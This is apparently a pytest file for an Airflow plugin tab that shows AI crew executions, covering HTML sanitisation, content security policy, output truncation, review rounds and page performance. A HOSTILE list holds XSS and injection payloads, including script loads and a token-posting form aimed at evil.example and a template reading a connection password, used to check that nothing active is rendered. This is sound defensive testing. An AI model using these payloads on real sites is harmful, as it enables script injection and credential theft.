"""What the tab shows of an execution: everything that is known, nothing that acts, and no more than a page can hold."""

from __future__ import annotations

import hashlib
import json
import re
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import requests
from fastapi.testclient import TestClient
from faults.server import FaultServer
from faults.wire import Reply
from markupsafe import Markup
from sampling import crossed
from speed import tenths
from viewed_run import Run, about

from airflow_crew_provider.api.responses import masker
from airflow_crew_provider.decorators.crew import _CrewDecoratedOperator
from airflow_crew_provider.models import ExecutionState, Json, output_sha256
from airflow_crew_provider.operators.crew import CrewKickoffOperator, CrewResumeOperator
from airflow_crew_provider.sensors.crew import CrewStatusSensor
from airflow_crew_provider.view import page, plugin
from airflow_crew_provider.view.deployment import look_up
from airflow_crew_provider.view.execution import LONGEST, Seen, Target, of_details, progress, with_decisions
from airflow_crew_provider.view.page import Facts
from scripts.stack.waiting import PATIENCE, wait_until

pytestmark = pytest.mark.since_airflow("3.1")
HOSTILE = [
    "<script>alert(1)</script>",
    "</style></script><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "[x](javascript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=) [z](vbscript:x)",
    "<iframe src='https://evil.example'></iframe><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<a href='javascript:alert(1)' onclick=alert(1)>x</a> <svg/onload=alert(1)> <base href=//evil.example>",
    '" onmouseover="alert(1)" x="',
    "<style>*{background:url(https://evil.example)}</style><link rel=stylesheet href=//evil.example>",
    "```diff\n+<script>alert(1)</script>\n-<img src=x onerror=alert(1)>\n```",
    "<form action=https://evil.example><input name=token><button>go</button></form>",
    "{{ 7*7 }} {% raw %} {{ conn.crew_default.password }}",
    "[x]: javascript:alert(1)\n\n[x]\n\n<javascript:alert(1)>\n\n[^1]: ![x](//evil.example)",
]
ALLOWED = {
    *("header", "div", "h1", "h2", "h3", "h4", "h5", "h6", "p", "span", "nav", "a"),
    *("b", "i", "bdi", "ul", "ol", "li", "section", "article", "blockquote", "details", "summary", "pre"),
    *("code", "dl", "dt", "dd", "footer", "table", "thead", "tbody", "tr", "th", "td", "em"),
    *("strong", "hr", "br", "ins", "del", "time", "progress", "img"),
}


class Elements(HTMLParser):
    """The elements of a page, as a browser finds them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attributes)))


def details_of(text: str) -> Json:
    """Return details in which every text is this one."""
    usage = {"total_tokens": 5, "cost_usd": 0.1, "by_model": {text: {"total_tokens": 5}}}
    task = dict.fromkeys(("task_id", "name", "agent", "state", "started_at", "output"), text)
    names = ("task_id", "asked_at", "question", "draft", "output_sha256", "outcome", "human_feedback", "by")
    step = dict.fromkeys(("kind", "name", "agent", "state", "started_at", "arguments", "result"), text)
    task["steps"] = [  # type: ignore[assignment]
        {**step, "number": 1, "usage": usage, "seconds": text, "from_journal": True, "cut": True},
        {**step, "number": text, "kind": "model", "state": "running", "started_at": "2026-11-20T12:00:00+00:00"},
    ]
    asked = {**dict.fromkeys(names, text), "number": text, "outcomes": [text], "decided_at": None, "is_approve": False}
    asked |= {"output_sha256": output_sha256(text)}
    decided = {**asked, "decided_at": "2026-11-20T12:00:00+00:00", "edited": True, "draft": f"{text}\n\nmore"}
    decided |= {"output_sha256": output_sha256(f"{text}\n\nmore")}
    return {
        **dict.fromkeys(("execution_id", "crew", "dialect", "created_at", "ended_at", "error", "output"), text),
        **{"continued_from": text, "chain_usage": usage},
        **{
            "state": "completed",
            "kickoff_ids": [text],
            "inputs": {text: text, "b": {text: [text]}},
            "meta": {text: text},
        },
        **{"usage": usage, "output_json": None, "tasks": [{**task, "seconds": text, "usage": usage}]},
        "files": [file_of(text), file_of(text, state="draft", direction="in", round=1)],
        **{"rounds": [decided, asked], "left_out": [text], "work_seconds": text},
    }


def file_of(name: str, content: bytes = b"\x89PNG\r\n\x1a\n", **more: Any) -> Json:
    kept = {"size": len(content), "sha256": hashlib.sha256(content).hexdigest(), "content_type": "image/png"}
    return {"name": name, "version": 2, "task_id": name, "view": f"/file?{name}", "state": "final", **kept, **more}


def decision_of(text: str) -> Json:
    names = ("execution_id", "crew_task_id", "human_feedback", "outcome", "output", "edited_output")
    return {
        **dict.fromkeys(names, text),
        **{"reviewer": {"id": text, "name": text}, "is_approve": True, "decided_at": "2026-11-20T12:00:00+00:00"},
        **{"output_sha256": text, "approvals": [{"reviewer": {"id": text, "name": text}, "decided_at": text}]},
    }


def rendered(found: Json | None, decisions: list[Json] | None = None, **seen: Any) -> str:
    given = None if found is None else of_details(found)
    facts = Facts("k-1", "e-1", "crew_default", Seen(given, **seen), decisions or [])
    own = {"form": "/dags/d/required_actions", "run": "/crew-view/dags/d/runs/r", "pictures": "/crew-view/own"}
    return page.fragment(facts, **own)


REASSEMBLED = {
    "an escape": r"sekret\-abcdef-123",
    "an entity": "sekret&#45;abcdef-123",
    "emphasis": "sekret-**abcdef**-123",
    "a link": "sekret-[abcdef](https://x.example)-123",
    "a control character": "sekret-\x01abcdef-123",
    "a line break": "sekret-abcdef-123\nand more",
}


@pytest.mark.parametrize("text", REASSEMBLED.values(), ids=REASSEMBLED)
def test_no_markdown_puts_a_masked_token_together_again(text: str) -> None:
    mask = masker(["sekret-abcdef-123"])
    for found in (details_of(text), {**details_of(text), "state": "pending"}):
        shown = of_details(found, mask)
        html = page.fragment(Facts("k-1", "e-1", "crew_default", Seen(shown, mask=mask), []), form="/", run="/")
        seen = re.sub("[\x00-\x09\x0b-\x1f]", "", Markup(html).striptags())
        assert "sekret-abcdef-123" not in seen


def test_every_state_has_a_word() -> None:
    assert set(ExecutionState) <= page.STATES.keys()


@pytest.mark.parametrize("state", ["running", "pending", "completed", "error", "<script>alert(1)</script>"])
@pytest.mark.parametrize("text", HOSTILE)
def test_no_field_becomes_an_active_element_or_attribute(text: str, state: str) -> None:
    found = {**details_of(text), "state": state}
    html = rendered(found, [decision_of(text)], problem=text, link="https://crew.example.com/view?id=1")
    html += rendered({**found, "output_json": {text: [text]}}, [])
    for tag, attributes in Elements(html).found:
        assert tag in ALLOWED, (tag, attributes)
        if tag == "img":
            assert re.fullmatch("/crew-view/own/[0-9a-f]{64}", attributes.pop("src") or "")
        assert not [
            name for name in attributes if name.startswith("on") or name in ("src", "style", "srcset", "action")
        ]
        href = attributes.get("href") or "/"
        assert href.startswith(("/", "https://", "http://", "mailto:")), href
        assert href.startswith("//") is False
    assert "49" not in html.replace("evil", "")


def test_the_policy_allows_only_the_pages_own_script_and_pictures() -> None:
    policy = dict(each.strip().split(" ", 1) for each in page.policy().split(";"))
    assert policy["default-src"] == "'none'"
    assert policy["frame-ancestors"] == "'self'"
    assert policy["script-src"].startswith("'sha256-")
    assert policy["connect-src"] == policy["img-src"] == "'self'"
    assert "unsafe" not in page.policy()


def test_the_policy_names_exactly_the_pages_script_and_style() -> None:
    from base64 import b64encode

    html = page.task_page("t", "", address="a", is_live=True, run="r")
    for tag in ("script", "style"):
        text = html.partition(f"<{tag}>")[2].partition(f"</{tag}>")[0]
        assert text
        assert f"'sha256-{b64encode(hashlib.sha256(text.encode()).digest()).decode()}'" in page.policy()


@pytest.mark.parametrize("bad", [None, 1, "x", [], [1, "x", None], {"a": 1}])
@pytest.mark.parametrize("name", sorted(details_of("x")))
def test_details_with_a_wrongly_typed_field_are_still_shown(name: str, bad: Any) -> None:
    if name == "state":
        return
    assert "<header" in rendered({**details_of("x"), name: bad}, [decision_of("x")])


DRAFTS = ["Draft one. It is long.", "Draft two. It is long."]


def round_of(number: int, draft: str, **more: Any) -> Json:
    asked = {"number": number, "task_id": "write", "asked_at": "2026-11-20T12:00:00+00:00", "draft": draft}
    undecided = dict.fromkeys(("decided_at", "is_approve", "outcome", "human_feedback", "edited", "by", "question"))
    return {**asked, **undecided, "output_sha256": output_sha256(draft), "outcomes": None, **more}


def decision(draft: str, *, approve: bool, name: str = "Ann", **more: Any) -> Json:
    who = {"id": name.lower(), "name": name}
    said = {"is_approve": approve, "human_feedback": "" if approve else "Shorter.", "reviewer": who}
    when = {"decided_at": "2026-11-20T12:01:00+00:00", "output_sha256": output_sha256(draft), "output": draft}
    return {**said, **when, "crew_task_id": "write", "execution_id": "e-1", **more}


def test_a_round_names_the_person_whom_airflow_knows() -> None:
    by_token = {"decided_at": "2026-11-20T12:02:00+00:00", "is_approve": False, "by": "organization"}
    found = {
        **details_of("x"),
        "state": "pending",
        "rounds": [round_of(1, DRAFTS[0], **by_token), round_of(2, DRAFTS[1])],
    }
    html = rendered(found, [decision(DRAFTS[0], approve=False)])
    assert "by Ann" in html
    assert "organization" not in html
    assert "Changes since round 1" in html
    assert "<del>-Draft one.</del>" in html
    assert "<ins>+Draft two.</ins>" in html
    assert html.count('aria-labelledby="round-') == 2


def test_several_approvers_and_an_edit_are_told() -> None:
    approvals = [{"reviewer": {"id": "b", "name": "Bob"}, "decided_at": "2026-11-20T12:00:30+00:00"}]
    found = {**details_of("x"), "rounds": [round_of(1, DRAFTS[0])]}
    html = rendered(found, [decision(DRAFTS[0], approve=True, edited_output="Mine.", approvals=approvals)])
    assert "by Ann" in html
    assert "Approved by Bob" in html
    assert ">edited<" in html


def test_without_details_the_rounds_are_those_that_airflow_kept() -> None:
    status = {
        "state": "pending",
        "tasks": [],
        "rounds": [{"task_id": "write", "draft": DRAFTS[1]}],
    }
    found = with_decisions(of_details(status), [decision(DRAFTS[0], approve=False)])
    assert [(each["number"], each["draft"]) for each in found["rounds"]] == [(1, DRAFTS[0]), (2, DRAFTS[1])]


ANYTHING = ["text", 3, -1.5, True, None, [], {}, [1, {"a": None}], {"a": {"b": "\ud800"}}]
OF_A_DECISION = ("output", "output_sha256", "object_sha256", "decided_at", "reviewer", "approvals", "ask", "is_approve")
OF_A_DECISION += ("auto_approved", "not_shown", "edited_output", "crew_task_id", "human_feedback", "outcome")


@pytest.mark.row("A42")
@pytest.mark.parametrize("name", OF_A_DECISION)
def test_a_decision_of_another_shape_does_not_end_the_page(name: str) -> None:
    details = details_of("x")
    for odd in ANYTHING:
        for given in ({name: odd}, decision(DRAFTS[0], approve=True, **{name: odd}) if name[:6] != "output" else {}):
            html = rendered({**details, "rounds": [round_of(1, DRAFTS[0])]}, [given, decision(DRAFTS[1], approve=True)])
            assert "by Ann" in html


def test_a_draft_that_comes_again_unchanged_is_another_round() -> None:
    found = with_decisions(
        of_details({"state": "completed", "rounds": [round_of(1, DRAFTS[0]), round_of(2, DRAFTS[0])]}),
        [decision(DRAFTS[0], approve=False), decision(DRAFTS[0], approve=True)],
    )
    assert [each["is_approve"] for each in found["rounds"]] == [False, True]


@pytest.mark.parametrize(
    ("found", "said"),
    [
        ({"tasks": []}, None),
        ({"tasks": [{"state": "completed"}, {"state": "running"}, {"state": "not_started"}]}, (1, 3)),
        ({"tasks": [], "completed_tasks": 1, "total_tasks": 3}, (1, 3)),
        ({"tasks": [], "completed_tasks": 9, "total_tasks": 3}, (3, 3)),
        ({"tasks": [], "completed_tasks": None, "total_tasks": 3}, None),
        ({"tasks": [], "completed_tasks": 0, "total_tasks": 0}, None),
    ],
)
def test_the_progress_is_counted_where_it_can_be(found: Json, said: Any) -> None:
    assert progress(found) == said


def test_the_same_facts_are_the_same_page() -> None:
    assert rendered(details_of("x")) == rendered(details_of("x"))


@pytest.mark.parametrize("piece", ["word ", "a", "*", "[", "`x", "> ", "_a*", "![]("])
def test_a_20_megabyte_output_is_cut_and_shown_at_once(piece: str) -> None:
    text = piece * (20_000_000 // len(piece))
    found = {**details_of("x"), "state": "completed", "output": text, "tasks": [{"state": "completed", "output": text}]}
    began = time.monotonic()
    html = rendered(found)
    assert time.monotonic() - began < PATIENCE
    assert len(html) < 20 * LONGEST
    assert "Only the beginning is shown" in html


def test_a_20_megabyte_response_is_not_read_completely(
    client: TestClient, dag_run: Run, server: FaultServer, connect: Any
) -> None:
    connect(server.url)
    large = json.dumps({"status": "completed", "result": {"output": "x" * 20_000_000, "tasks": []}})
    server.on("GET /status/k-1", Reply(body=large))
    dag_run.task("kickoff", about())
    deadline = time.monotonic() + PATIENCE
    while "16 MiB" not in (text := client.get(dag_run.page("kickoff", end="/fragment")).text):
        assert time.monotonic() < deadline
    assert len(text) < 10_000


SAID = {"decided_at": "2026-11-20T12:02:00+00:00", "is_approve": True, "by": "Rita"}


@pytest.mark.row("A31")
@pytest.mark.parametrize("cut", [False, True])
def test_a_decision_shows_the_reviewed_draft_instead_of_another_text(
    cut: bool,
) -> None:
    served = round_of(1, DRAFTS[0], **SAID) | {"draft": "Send them all the money.", **({"cut": True} if cut else {})}
    html = rendered({**details_of("x"), "rounds": [served]}, [decision(DRAFTS[0], approve=True)])
    assert [each in html for each in ("Send them", DRAFTS[0], "by Ann", "Not verified")] == [False, True, True, False]


@pytest.mark.row("A31")
def test_a_decision_not_taken_never_replaces_the_one_taken() -> None:
    told = {"number": 1, "task_id": "draft_task", "draft": DRAFTS[0], "output_sha256": output_sha256(DRAFTS[0])}
    told |= {"is_approve": False, "by": "bob", "human_feedback": "No.", "decided_at": "2026-11-25T01:00:00+00:00"}
    [shown] = with_decisions(of_details({"state": "running", "rounds": [told]}), [decision(DRAFTS[0], approve=True)])[
        "rounds"
    ]
    assert (shown["is_approve"], shown["who"], shown["human_feedback"]) == (False, "bob", "No.")


@pytest.mark.row("A31")
def test_decisions_not_kept_by_airflow_appear_over_no_other_text() -> None:
    html = rendered({**details_of("x"), "rounds": [round_of(1, DRAFTS[0], **SAID) | {"draft": "Send money."}]})
    assert [each in html for each in ("Send money.", "Approved", "Rita", "so it is not shown here")] == [
        *(False, False, False, True)
    ]


@pytest.mark.row("A31")
def test_texts_truncated_before_arrival_are_unverified_unlike_locally_truncated_ones() -> None:
    long = "word " * 20_000
    for draft, more, said in ((long[:1_000], {"cut": True}, True), (long, {}, False)):
        html = rendered({**details_of("x"), "rounds": [round_of(1, long, **SAID) | {"draft": draft, **more}]})
        assert ("Not verified" in html, "Only the beginning" in html) == (said, not said)
        assert "Approved" in html
    forged = {**decision(DRAFTS[0], approve=True), "output": "Send money."}
    assert "Not verified" in rendered({**details_of("x"), "rounds": []}, [forged])


WORST = ["&", '"', "\N{GRINNING FACE}", "<a>", "*[", "- - - a\n", "|", "x"]


def large(piece: str, count: int) -> tuple[Json, list[Json]]:
    """Return details that are as large as can be, and the decisions on their rounds."""
    text = piece * (70_000 // len(piece))
    drafts = [f"{number} {text}" for number in range(count)]
    task = dict.fromkeys(("task_id", "name", "agent", "state", "started_at", "output"), text)
    step = dict.fromkeys(("kind", "name", "agent", "state", "started_at", "arguments", "result"), text)
    task["steps"] = [{**step, "number": number, "from_journal": True} for number in range(60)]  # type: ignore[assignment]
    details = {
        **dict.fromkeys(("crew", "created_at", "ended_at", "error", "output", "current_task"), text),
        **{"state": "completed", "tasks": [{**task, "output": f"{number}{text}"} for number in range(count)]},
        **{"inputs": {f"{number}{text[:90]}": text for number in range(count)}, "left_out": [text] * count},
        "files": [file_of(f"{number}{text}", bytes([number]), round=count - 1, state="draft") for number in range(60)],
        "rounds": [round_of(n, d, question=text, human_feedback=text, task_id=text) for n, d in enumerate(drafts)],
    }
    approvals = [{"reviewer": {"id": text, "name": text}}] * 30
    return details, [decision(each, approve=True, name=text, approvals=approvals) for each in drafts[:50]]


@pytest.mark.row("A30")
@pytest.mark.parametrize(("piece", "state"), crossed(WORST, ["completed", "pending"]))
def test_a_page_stays_under_a_megabyte_and_200_milliseconds(piece: str, state: str) -> None:
    details, decisions = large(piece, 300)
    details |= {"state": state}
    found = of_details(details)
    facts = Facts("k-1", "e-1", "crew_default", Seen(found), decisions if state == "completed" else [])
    assert tenths(lambda: page.fragment(facts), enough=2) < 2
    assert len(page.fragment(facts).encode()) < 1_000_000


TABLES = ["|" + "a|" * 120 + "\n|" + "-|" * 120 + "\n" + "|a\n" * 200, "a|" * 500 + "\n" + "-|" * 500 + "\na\n" * 100]


@pytest.mark.row("A30")
@pytest.mark.parametrize("text", [*TABLES, "[" * 20_000, "1. a\n" * 4_000, "![](" * 5_000, "**a** " * 3_000])
def test_slow_or_huge_markdown_is_shown_as_plain_text(text: str) -> None:
    details = {"state": "completed", "output": text}
    assert tenths(lambda: rendered(details), enough=2) < 2
    html = rendered(details)
    assert len(html) < 300_000
    assert '<div class="text">' in html


@pytest.mark.row("A30")
def test_only_the_open_draft_and_the_output_are_rendered() -> None:
    rounds = [round_of(1, "**one**", **SAID), round_of(2, "**two**", question="**why**")]
    html = rendered({"state": "pending", "tasks": [{"output": "**task**"}], "rounds": rounds})
    shown = {word: f"<strong>{word}</strong>" in html for word in ("one", "two", "why", "task")}
    assert shown == {"one": False, "two": True, "why": False, "task": False}
    assert "<strong>end</strong>" in rendered({"state": "completed", "output": "**end**"})


@pytest.mark.row("A30")
def test_of_300_000_inputs_the_first_are_shown() -> None:
    html = rendered({"state": "running", "inputs": {f"name-{number}": number for number in range(300_000)}})
    assert ("name-99<" in html, "name-100<" in html, "299900 more not shown" in html) == (True, False, True)


@pytest.mark.parametrize("bad", [5, 2**64, -1, 1e300, True, "5", [5], {"a": 5}, "x" * 100_000])
def test_what_cannot_be_read_tells_less_and_ends_nothing(bad: Any) -> None:
    names = ("left_out", "completed_tasks", "total_tasks", "current_task", "work_seconds", "usage", "meta", "output")
    task = dict.fromkeys(("state", "name", "seconds", "usage", "output", "started_at", "steps"), bad)
    step = dict.fromkeys(("number", "kind", "name", "state", "seconds", "usage", "arguments", "result", "cut"), bad)
    asked = dict.fromkeys(("number", "draft", "task_id", "asked_at", "decided_at", "by", "is_approve"), bad)
    html = rendered(
        {**dict.fromkeys(names, bad), "state": "running", "tasks": [task, {"steps": [step, bad]}], "rounds": [asked]},
        [asked],
    )
    assert "Running" in html
    assert len(html) < 200_000
    assert "Running" in rendered({"state": "running"})


def step_of(number: int, **more: Any) -> Json:
    said = {"number": number, "kind": "tool", "name": "send_mail", "agent": "Writer", "state": "done", "seconds": 0.25}
    return {**said, "arguments": '{"to": "ann"}', "result": '"sent"', "from_journal": False, "cut": False, **more}


def test_a_task_shows_folded_steps_and_marks_special_ones() -> None:
    used = {"total_tokens": 1204}
    model = step_of(1, kind="model", name="gpt-4o", agent="Manager", seconds=2.5, usage=used, from_journal=True)
    lost = step_of(3, state="unknown", result=None, seconds=None, cut=True)
    task = {"task_id": "write", "agent": "Writer", "state": "running", "steps": [model, step_of(2), lost]}
    html = rendered({"state": "running", "tasks": [task]})
    assert re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html.partition('<ol class="steps"')[2])).startswith(
        ' aria-label="Steps"> 1 gpt-4o model · Manager from journal 1,204 tokens · 2.5 s Newest message'
    )
    assert html.count("<pre") == 5
    assert ("250 ms" in html, "outcome unknown" in html, "only the beginning" in html) == (True, True, True)
    assert html.count(" · Writer") == 0, "the agent of the task"
    assert "3 steps" in html


def test_of_more_steps_than_are_promised_the_newest_are_shown() -> None:
    tasks = [{"task_id": str(place), "steps": [step_of(place * 40 + each) for each in range(40)]} for place in range(3)]
    found = of_details({"state": "running", "tasks": tasks})
    assert [len(task["steps"]) for task in found["tasks"]] == [0, 10, 40]
    assert found["tasks"][1]["steps"][0]["number"] == 70


def test_of_a_deployment_without_steps_nothing_is_said_of_them() -> None:
    live = {"state": "running", "tasks": [{"task_id": "write", "state": "completed"}]}
    html = rendered(live)
    assert "step" not in html.lower()
    assert "continues" not in html


def test_a_continuing_execution_names_its_predecessor_and_their_joint_usage() -> None:
    used = {"usage": {"total_tokens": 1}, "chain_usage": {"total_tokens": 1111, "cost_usd": 0.5}}
    html = rendered({"state": "running", "continued_from": "e-0", **used})
    assert "failed task of execution <code>e-0</code>" in html
    assert "<b>1,111 tokens · $0.5000</b> including the executions that it continues" in html


@pytest.mark.slow
def test_steps_copied_from_the_continued_execution_are_shown(connect: Callable[..., None], tmp_path: Path) -> None:
    local = pytest.importorskip("crew_service.local")

    def ended(service: Any, **more: str) -> tuple[str, str]:
        """Start an execution; return its id, and what the tab shows of its end."""
        connect(service.url, service.token)
        sent = {"json": {"inputs": {}, **more}, "headers": {"Authorization": f"Bearer {service.token}"}}
        kickoff_id = requests.post(f"{service.url}/kickoff", **sent, timeout=PATIENCE).json()["kickoff_id"]
        target = Target("crew_default", kickoff_id, kickoff_id, f"/view?id={kickoff_id}")
        seen = wait_until(lambda: (now := look_up(target, None)).is_final and now, "the end")
        return kickoff_id, page.fragment(Facts(kickoff_id, kickoff_id, "crew_default", seen, []), form="/f", run="/r")

    notes = {"id": "notes", "agent": "Clerk", "output": "Notes", "steps": [{"tool": "look_up"}]}
    report = {"id": "report", "agent": "Clerk", "steps": [{"tool": "send_mail"}]}
    database = {"db": tmp_path / "service.db"}
    with local.running_service(scenario={"tasks": [notes, {**report, "error": "no ink"}]}, **database) as service:
        first, failed = ended(service)
    with local.running_service(scenario={"tasks": [notes, {**report, "output": "Report"}]}, **database) as service:
        _, continued = ended(service, continueFrom=first)
    for html, copied in ((failed, 0), (continued, 2)):
        tools = re.findall(r"<code>(look_up|send_mail)</code>", html)
        assert (tools, html.count("from journal</span>")) == (["look_up", "send_mail"], copied)


@pytest.fixture(scope="module")
def service() -> Iterator[Any]:
    local = pytest.importorskip("crew_service.local", reason="needs the crew service")
    tasks = [
        {
            **{"id": "research", "agent": "Researcher", "output": "Some *notes*"},
            "steps": [{"tool": "search_web", "arguments": {"query": "{topic}"}, "result": "<b>found</b>"}],
        },
        {"id": "write", "agent": "Writer", "human_input": True, "output": DRAFTS[0], "revised": DRAFTS[1]},
    ]
    with local.running_service(scenario={"inputs": ["topic"], "tasks": tasks}) as service:
        yield service


def test_the_real_service_tells_tasks_drafts_inputs_and_the_link(
    client: TestClient, dag_run: Run, service: Any, connect: Any
) -> None:
    from airflow_crew_provider.hooks.crew import CrewHook

    connect(service.url, token=service.token)
    kickoff_id = CrewHook().kickoff({"topic": "tea"})
    dag_run.task("kickoff", about(kickoff_id, view=f"/view?id={kickoff_id}"))
    dag_run.task("review", about(kickoff_id), state="awaiting_input")
    dag_run.asks("review")
    wanted = ["search_web", "{&#34;query&#34;: &#34;tea&#34;}", "&#34;&lt;b&gt;found&lt;/b&gt;&#34;"]
    wanted += ["Waiting for a person", "Waiting for an answer", "Researcher", "Some *notes*", DRAFTS[0], "<dd>tea</dd>"]
    wanted += [f'href="{service.url}/view?id={kickoff_id}"', "/tasks/review/required_actions"]
    deadline, text = time.monotonic() + PATIENCE, ""
    while missing := [each for each in wanted if each not in text]:
        assert time.monotonic() < deadline, missing
        time.sleep(0.1)
        text = client.get(dag_run.page("kickoff", end="/fragment")).text
    assert "This deployment does not report" not in text


def test_a_mapped_runs_overview_shows_labels_without_asking_deployments(
    client: TestClient, dag_run: Run, server: FaultServer, connect: Any
) -> None:
    connect(server.url)
    for index in range(20):
        state = "failed" if index == 3 else "deferred"
        dag_run.task("letter", about(f"k-{index}"), index, state=state, _rendered_map_index=f"Customer {index:02}")
    html = client.get(dag_run.path()).text
    assert [f"Customer {index:02}" in html for index in range(20)] == [True] * 20
    assert html.count('<li class="error">') == 1
    assert "20 executions" in html
    assert server.requests == []


@pytest.mark.since_airflow("3.4")
@pytest.mark.row("A28")
def test_a_looped_tasks_page_shows_the_rounds_of_all_iterations(
    client: TestClient, dag_run: Run, server: FaultServer, connect: Any
) -> None:
    connect(server.url)
    server.on("GET /status/k-1", {"status": "pending", "task_id": "write", "task_output": "Draft 3."})
    region = dag_run.loop("rounds")
    for number in range(3):
        dag_run.task("review", about(), number, region_id=region, state="awaiting_input" if number == 2 else "success")
    for number in range(2):
        review = {"execution_id": "k-1", "crew_task_id": "write", "output": f"Draft {number + 1}.", "is_approve": False}
        review |= {"human_feedback": f"Shorter, {number}.", "output_sha256": output_sha256(str(review["output"]))}
        review["decided_at"] = f"2026-11-20T12:0{number}:00+00:00"
        dag_run.decided("review", review, number, region)
    dag_run.asks("review", 2)
    assert client.get(dag_run.page("review")).status_code == 200
    answer = f"tasks/review/required_actions?region_id={region}&amp;region_index=2"
    wait_until(lambda: "Draft 3." in client.get(dag_run.page("review", end="/fragment")).text, "the status")
    text = client.get(dag_run.page("review", end="/fragment")).text
    assert [each for each in ("Shorter, 0.", "Shorter, 1.", answer) if each not in text] == []


def test_decisions_are_read_once_and_the_last_with_its_draft(
    dag_run: Run,
) -> None:
    from airflow_crew_provider.compat import task_records

    dag_run.task("crew", about())
    [task] = task_records.of_run(dag_run.dag_id, dag_run.run_id)
    listed = [{"decided_at": f"2026-11-20T12:0{number}:00+00:00", "round": number} for number in (1, 2, 3)]
    with_draft = {**listed[-1], "output": "Draft 3."}
    dag_run.decided("crew", with_draft)
    dag_run.push("crew", "crew_decisions", listed)
    assert task_records.decisions(dag_run.dag_id, dag_run.run_id, {task.place}) == [*listed[:2], with_draft]


@pytest.mark.since_airflow("3.4")
@pytest.mark.row("A28")
def test_the_overview_leads_to_the_execution_of_each_iteration(
    client: TestClient, dag_run: Run, server: FaultServer, connect: Any
) -> None:
    connect(server.url)
    region = dag_run.loop("rounds")
    for number in range(2):
        dag_run.task("kickoff", about(f"k-{number}"), number, region_id=region)
        server.on(f"GET /status/k-{number}", {"status": "running"})
    links = re.findall(r'href="([^"]*tasks/kickoff/-1[^"]*)"', client.get(dag_run.path()).text)
    assert len(links) == 2
    for number in range(2):
        link = next(each for each in links if each.endswith(f"region_index={number}")).replace("&amp;", "&")
        assert f"region_id={region}" in link
        assert "/fragment?region_id=" in client.get(link).text
        assert f"k-{number}" in client.get(link).text
    assert "k-1" in client.get(dag_run.page("kickoff")).text, "the latest where none is named"
    other = f"{dag_run.page('kickoff')}?region_id={region}&region_index=7"
    assert "No execution yet" in client.get(other).text


def test_a_task_without_executions_says_so_and_links_the_others(client: TestClient, dag_run: Run) -> None:
    dag_run.task("kickoff")
    answer = client.get(dag_run.page("kickoff"))
    assert "No execution yet" in answer.text
    assert f"/crew-view/dags/{dag_run.dag_id}/runs/" in answer.text
    assert "data-live" in answer.text
    assert client.get(dag_run.page("kickoff", end="/fragment")).headers["Crew-Live"] == "yes"
    assert client.get(dag_run.page("nothing")).status_code == 404
    assert client.get(dag_run.page("kickoff", "7")).status_code == 404


COST = """
import sys, time, tracemalloc
from airflow.providers.common.compat.sdk import AirflowPlugin, conf
import airflow_crew_provider.inbox.plugin, airflow_crew_provider.compat.version
conf.getboolean("core", "load_examples")
before = set(sys.modules)
tracemalloc.start()
began = time.perf_counter()
import airflow_crew_provider.view.plugin
seconds, memory = time.perf_counter() - began, tracemalloc.get_traced_memory()[1]
print(seconds * 1000, memory, *sorted(set(sys.modules) - before))
"""


def test_an_unused_tab_costs_the_api_server_almost_nothing() -> None:
    measured = []
    for _ in range(3):
        done = subprocess.run(
            [sys.executable, "-c", COST], capture_output=True, text=True, timeout=PATIENCE, check=True
        )
        measured.append(done.stdout.split())
    assert {name for _, _, *names in measured for name in names} == {
        "airflow_crew_provider.view",
        "airflow_crew_provider.view.plugin",
    }
    assert min(float(milliseconds) for milliseconds, *_ in measured) < 5
    assert max(int(memory) for _, memory, *_ in measured) < 1_000_000


@pytest.mark.parametrize(
    ("version", "settings", "shown"),
    [
        ((3, 0), {}, []),
        ((3, 0), {"AIRFLOW__CREW__TASK_TAB": "True"}, []),
        ((3, 1), {}, []),
        ((3, 3), {"AIRFLOW__CREW__TASK_TAB": "True"}, ["task_instance"]),
        ((3, 3), {"AIRFLOW__CREW__RUN_TAB": "True"}, ["dag_run"]),
        ((3, 4), {}, ["task_instance"]),
        ((3, 4), {"AIRFLOW__CREW__TASK_TAB": "False"}, []),
    ],
)
def test_the_tab_appears_if_limited_to_our_tasks_or_configured(
    monkeypatch: pytest.MonkeyPatch, version: tuple[int, int], settings: dict[str, str], shown: list[str]
) -> None:
    for name, value in settings.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setattr("airflow_crew_provider.compat.version.RELEASE", version)
    views = plugin.external_views()
    assert [each["destination"] for each in views] == shown
    assert not [each for each in views if each["href"].startswith("/")]  # else not found where Airflow is below a path


def test_the_tab_names_each_operator_that_notes_its_execution() -> None:
    assert set(plugin.OPERATORS) == {
        *(each.__name__ for each in (CrewKickoffOperator, CrewResumeOperator, CrewStatusSensor)),
        "CrewReviewOperator",
        "CrewUsageApprovalOperator",
        "CrewRunOperator",
        _CrewDecoratedOperator.custom_operator_name,
    }


ASK = {"kind": "tool", "agent": "Ann <b>", "tool": "send_mail", "arguments": {"to": "bob"}, "number": 2}
CALL = 'Question 2\n**send_mail**\n{\n  "to": "<i>bob"\n}'


def test_mid_task_questions_show_as_text_with_agent_and_tool() -> None:
    asked = round_of(1, CALL, question="May it run?", ask=ASK)
    html = rendered({"state": "pending", "rounds": [asked]})
    assert "The agent Ann &lt;b&gt; needs approval to run the tool send_mail." in html
    assert '<pre class="box">Question 2\n**send_mail**\n{\n  &#34;to&#34;: &#34;&lt;i&gt;bob&#34;\n}</pre>' in html
    assert "<summary>Question</summary>" in html


@pytest.mark.parametrize(("question", "times"), [("May it run?", 1), ("**send_mail**", 0)], ids=["more", "the same"])
def test_a_question_is_said_once(question: str, times: int) -> None:
    html = rendered({"state": "pending", "rounds": [round_of(1, CALL, question=question, ask=ASK)]})
    assert html.count("<blockquote") == times


def test_what_an_agent_is_told_is_shown_turn_by_turn() -> None:
    turns = [{"role": "user", "content": "Hello.\n\n* <b>stock</b>"}, {"role": "assistant", "content": "Yes?"}]
    html = rendered({"state": "running", "inputs": {"messages": turns}})
